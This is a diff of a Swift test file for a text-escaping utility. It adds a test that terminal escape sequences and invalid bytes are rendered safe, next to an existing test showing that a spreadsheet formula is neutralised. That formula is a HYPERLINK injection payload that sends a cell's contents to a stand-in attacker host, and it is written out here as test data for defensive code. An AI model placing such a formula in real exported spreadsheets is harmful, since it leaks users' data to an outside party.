@@ -24,6 +24,18 @@ import Testing
         }
     }
 
+    @Test func bytesAreEscapedIntoABuffer() {
+        func run(_ bytes: [UInt8]) -> String {
+            var out: [UInt8] = Array("> ".utf8)
+            bytes.withUnsafeBufferPointer { TextEscaping.appendTerminalSafe($0, to: &out) }
+            return String(decoding: out, as: UTF8.self)
+        }
+        #expect(run(Array("1 16 30 44 038 016 18".utf8)) == "> 1 16 30 44 038 016 18")
+        #expect(run(Array("\u{1B}[31m1160\u{202E}".utf8)) == "> \\x1b[31m1160\\u{202e}")
+        #expect(run([0x41, 0xFF, 0x42]) == "> A\u{FFFD}B")
+        #expect(run(Array("Anaïs".utf8)) == "> Anaïs")
+    }
+
     @Test func formulaCellsAreNeutralised() {
         #expect(TextEscaping.spreadsheetCell("=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")")
                 == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")")
